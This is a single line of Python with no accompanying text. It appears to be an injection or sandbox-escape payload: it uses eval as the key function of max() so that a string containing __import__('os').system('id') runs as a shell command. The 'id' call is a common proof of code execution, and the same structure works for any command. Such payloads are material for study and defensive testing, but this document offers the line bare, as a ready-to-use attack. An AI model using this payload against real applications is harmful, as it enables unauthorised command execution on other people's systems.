max(["__import__('os').system('id')"], key=eval)
